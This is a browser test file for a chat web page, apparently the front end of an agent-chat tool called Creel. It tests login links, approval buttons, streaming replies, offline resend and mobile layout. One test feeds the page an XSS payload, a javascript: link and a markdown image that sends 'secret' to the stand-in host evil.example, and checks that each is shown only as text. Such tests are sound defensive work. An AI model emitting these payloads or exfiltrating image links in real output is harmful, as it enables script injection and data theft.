import { existsSync } from 'node:fs'
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
import type { GroupName } from '../../src/domain/ids.ts'
import { WebWorld } from './web-world.ts'

const CHROMIUM = '/usr/bin/chromium'
const QUIET = [
  '--no-sandbox',
  '--disable-gpu',
  '--disable-quic',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
]
const WAIT = { timeout: 15_000, interval: 20 }
const group = 'main' as GroupName

if (!existsSync(CHROMIUM)) console.log(`web page tests skipped: there is no ${CHROMIUM}`)

describe.skipIf(!existsSync(CHROMIUM))('the page in a browser', { timeout: 60_000 }, () => {
  let browser: Browser
  let world: WebWorld
  let context: BrowserContext
  let page: Page
  let troubles: string[]

  beforeAll(async () => {
    browser = await chromium.launch({ executablePath: CHROMIUM, args: QUIET })
  }, 60_000)
  afterAll(() => browser?.close())

  beforeEach(async () => {
    world = await new WebWorld().start()
    context = await browser.newContext({ viewport: { width: 1200, height: 800 } })
    context.setDefaultTimeout(8_000)
    page = await context.newPage()
    troubles = []
    page.on('pageerror', (error) => troubles.push(error.message))
    page.on('console', (message) => {
      // Chromium reports each failed request on its own; the tests that break the network expect those.
      if (message.type() === 'error' && !message.text().startsWith('Failed to load resource')) {
        troubles.push(message.text())
      }
    })
  })
  afterEach(async () => {
    await context.close()
    await world[Symbol.asyncDispose]()
  })

  async function logIn(): Promise<void> {
    await page.goto(world.channel.createLoginLink())
    await page.getByRole('button', { name: 'Open the chat' }).click()
    await page.getByRole('heading', { name: 'main', exact: true }).waitFor()
    await page.locator('#log[aria-busy=false]').waitFor({ state: 'attached' })
  }

  async function write(text: string): Promise<void> {
    await page.getByLabel('Message', { exact: true }).fill(text)
    await page.keyboard.press('Enter')
  }

  it('opens from the link, whose token leaves address and history, and greets', async () => {
    await logIn()
    expect(page.url()).toBe(`${world.origin}/`)
    expect(await page.getByText('Say hello to main').isVisible()).toBe(true)
    await page.goBack()
    expect(page.url()).not.toContain('token=')
    expect(troubles).toEqual([])
  })

  it('says so when the link was used before', async () => {
    const link = world.channel.createLoginLink()
    await world.redeem(new URL(link).searchParams.get('token') ?? '')
    await page.goto(link)
    await page.getByRole('button', { name: 'Open the chat' }).click()
    await page.getByText('used before or is too old').waitFor()
  })

  it('shows buttons, sends what is pressed, and what came of it in their place', async () => {
    await logIn()
    const choices = [
      { label: 'Always', say: '/approve abcde-fghjk always' },
      { label: 'Deny', say: '/reject abcde-fghjk' },
    ]
    const [part = ''] = world.channel.renderChoices('**May** it?', choices)
    const { signal } = new AbortController()
    const id = await world.channel.send(world.address(), part, 'k1', signal)
    await page.getByRole('group', { name: 'Answers' }).getByRole('button', { name: 'Deny' }).click()
    await vi.waitFor(() => expect(world.taken.map((one) => one.text)).toEqual(['/reject abcde-fghjk']), WAIT)
    await page.getByText('Deny: sent…').waitFor()
    await world.channel.cards.settle(world.address(), id, 'May it? **Denied**', signal)
    await page.locator('.line.agent', { hasText: 'Denied' }).waitFor()
    expect(await page.getByRole('button', { name: 'Deny' }).count()).toBe(0)
    expect(await page.locator('#log .line').count()).toBe(1)
    expect(troubles).toEqual([])
  })

  it('shows a reaction below what was said, also after a reload', async () => {
    await logIn()
    await write('thank you')
    await vi.waitFor(() => expect(world.taken).toHaveLength(1), WAIT)
    const { address, platformMessageId } = world.taken[0] as (typeof world.taken)[number]
    const { signal } = new AbortController()
    await world.channel.reactions.react(address, platformMessageId, '🎉', signal)
    const reaction = page.getByLabel('The agent reacted with 🎉')
    await reaction.waitFor()
    await page.reload()
    await reaction.waitFor()
    expect(await page.locator('.line.user').count()).toBe(1)
    expect(troubles).toEqual([])
  })

  it('sends with Enter, shows the growing answer, then the whole one', async () => {
    await logIn()
    await page.getByLabel('Message', { exact: true }).fill('first')
    await page.keyboard.press('Shift+Enter')
    await page.keyboard.type('second')
    await page.keyboard.press('Enter')
    await vi.waitFor(() => expect(world.taken.map((one) => one.text)).toEqual(['first\nsecond']), WAIT)
    await page.locator('.line.user .meta', { hasText: 'Sent' }).waitFor()

    world.channel.showProgress(world.address(), { group, text: '', activity: 'Reading files' })
    await page.getByText('Reading files').waitFor()
    world.channel.showProgress(world.address(), { group, text: 'Here is **half' })
    await page.locator('#partial', { hasText: 'Here is' }).waitFor()

    await world.agentSays('Here is **half** and the rest.', 'a1')
    world.channel.showProgress(world.address(), null)
    await page.locator('.line.agent:not(.partial) strong', { hasText: 'half' }).waitFor()
    await page.locator('#partial').waitFor({ state: 'hidden' })
    expect(await page.locator('.line.agent:not(.partial)').count()).toBe(1)
    expect(troubles).toEqual([])
  })

  it('shows code with a copy button and links that open elsewhere', async () => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
    await logIn()
    await world.agentSays('```js\nconst a = 1\n```\nsee https://example.org/x', 'a1')
    await page.getByRole('button', { name: 'Copy' }).click()
    await page.getByRole('button', { name: 'Copied' }).waitFor()
    expect(await page.evaluate('navigator.clipboard.readText()')).toBe('const a = 1\n')
    const link = page.getByRole('link', { name: 'https://example.org/x' })
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer nofollow')
    expect(await link.getAttribute('target')).toBe('_blank')
    expect(troubles).toEqual([])
  })

  it('keeps attacks text, from both sides, and asks no foreign server for anything', async () => {
    const foreign: string[] = []
    page.on('request', (request) => {
      if (!request.url().startsWith(world.origin)) foreign.push(request.url())
    })
    await logIn()
    const attack = '<img src=x onerror="document.title=1"><script>document.title=1</script>'
    await write(attack)
    await world.agentSays(`${attack}\n\n![p](https://evil.example/?q=secret) [a](javascript:alert(1))`, 'a1')
    await page.locator('.line.user .body', { hasText: attack }).waitFor()
    await page.locator('.line.agent:not(.partial)', { hasText: attack }).waitFor()
    expect(await page.locator('#log img, #log script, #log [href^="javascript:"]').count()).toBe(0)
    expect(await page.title()).toBe('main · Creel')
    expect(foreign).toEqual([])
    expect(troubles).toEqual([])
  })

  it('keeps the talk over a reload, and the draft too', async () => {
    await logIn()
    await write('remember me')
    await page.locator('.line.user .meta', { hasText: 'Sent' }).waitFor()
    await world.agentSays('I will', 'a1')
    await page.getByLabel('Message', { exact: true }).fill('half a thou')
    await page.reload()
    await page.locator('.line.agent', { hasText: 'I will' }).waitFor()
    expect(await page.locator('.line .body').allTextContents()).toEqual(['remember me', 'I will\n', ''])
    expect(await page.getByLabel('Message', { exact: true }).inputValue()).toBe('half a thou')
  })

  it('keeps what is written offline and sends it once when the network is back', async () => {
    await logIn()
    await context.setOffline(true)
    await write('written in a tunnel')
    await page.getByText('Connection lost').waitFor()
    await page.locator('.line.unsent', { hasText: 'You are offline' }).waitFor()
    expect(world.taken).toEqual([])
    await context.setOffline(false)
    await page.locator('.line.user:not(.unsent)', { hasText: 'written in a tunnel' }).waitFor()
    await page.getByText('Connection lost').waitFor({ state: 'hidden' })
    expect(world.taken.map((one) => one.text)).toEqual(['written in a tunnel'])
    await world.agentSays('welcome back', 'a1')
    await page.locator('.line.agent', { hasText: 'welcome back' }).waitFor()
    expect(await page.locator('.line.user').count()).toBe(1)
  })

  it('sends again under the same id when Creel could not keep a message', async () => {
    const ids: string[] = []
    world.accept = (message) => {
      ids.push(message.platformMessageId)
      if (ids.length < 2) throw new Error('disk full')
      return 'new'
    }
    await logIn()
    await write('precious')
    await page.locator('.line.user:not(.unsent)', { hasText: 'precious' }).waitFor()
    expect(new Set(ids).size).toBe(1)
  })

  it('keeps an unsent message over a reload of the page', async () => {
    world.accept = () => {
      throw new Error('disk full')
    }
    await logIn()
    await write('still here')
    await page.locator('.line.unsent', { hasText: 'Not sent' }).waitFor()
    world.accept = () => 'new'
    await page.reload()
    await page.locator('.line.user:not(.unsent)', { hasText: 'still here' }).waitFor()
    await page.locator('.line.unsent').waitFor({ state: 'detached' })
    expect(world.taken.map((one) => one.text)).toEqual(['still here'])
  })

  it('gives back for editing what is too long', async () => {
    await logIn()
    await write('x'.repeat(70_000))
    await page.getByText('at most 64 kB').waitFor()
    await page.getByRole('button', { name: 'Edit' }).click()
    expect(await page.getByLabel('Message', { exact: true }).inputValue()).toHaveLength(70_000)
    expect(await page.locator('.unsent').count()).toBe(0)
  })

  it('switches between agents and shows each one its own talk', async () => {
    world.groups = [
      { name: group, provider: 'demo', state: 'awake' },
      { name: 'helper' as GroupName, provider: 'demo', state: 'asleep' },
    ]
    await logIn()
    await world.agentSays('from main', 'a1')
    await world.agentSays('from helper', 'a2', 'helper')
    await page.locator('.line.agent', { hasText: 'from main' }).waitFor()
    await page.getByRole('link', { name: /helper/ }).click()
    await page.locator('.line.agent', { hasText: 'from helper' }).waitFor()
    expect(await page.getByText('from main').count()).toBe(0)
    await write('to the helper')
    await vi.waitFor(() => expect(world.taken[0]?.address.chat).toBe('helper'), WAIT)
  })

  it('fits a phone: nothing scrolls sideways, inputs do not make the browser zoom', async () => {
    await page.setViewportSize({ width: 390, height: 844 })
    world.groups = ['main', 'helper', 'research', 'household', 'travel'].map((name) => ({
      name: name as GroupName,
      provider: 'demo',
      state: 'asleep',
    }))
    await logIn()
    const wide = `${'w'.repeat(300)}\n\n\`\`\`\n${'c'.repeat(300)}\n\`\`\`\n\n|${' column |'.repeat(20)}\n|${'---|'.repeat(20)}`
    await world.agentSays(wide, 'a1')
    await write('u'.repeat(300))
    await page.locator('.line.user .meta', { hasText: 'Sent' }).waitFor()
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(390)
    expect(await page.evaluate('document.getElementById("scroller").scrollWidth')).toBeLessThanOrEqual(390)
    expect(await page.evaluate('getComputedStyle(document.getElementById("text")).fontSize')).toBe('16px')
    const button = await page.getByRole('button', { name: 'Send', exact: true }).boundingBox()
    expect((button?.y ?? 0) + (button?.height ?? 0)).toBeLessThanOrEqual(844)
  })

  it('tells a signed-out person how to come back', async () => {
    await page.goto(world.origin)
    expect(await page.getByText('./creel link').isVisible()).toBe(true)
  })
})
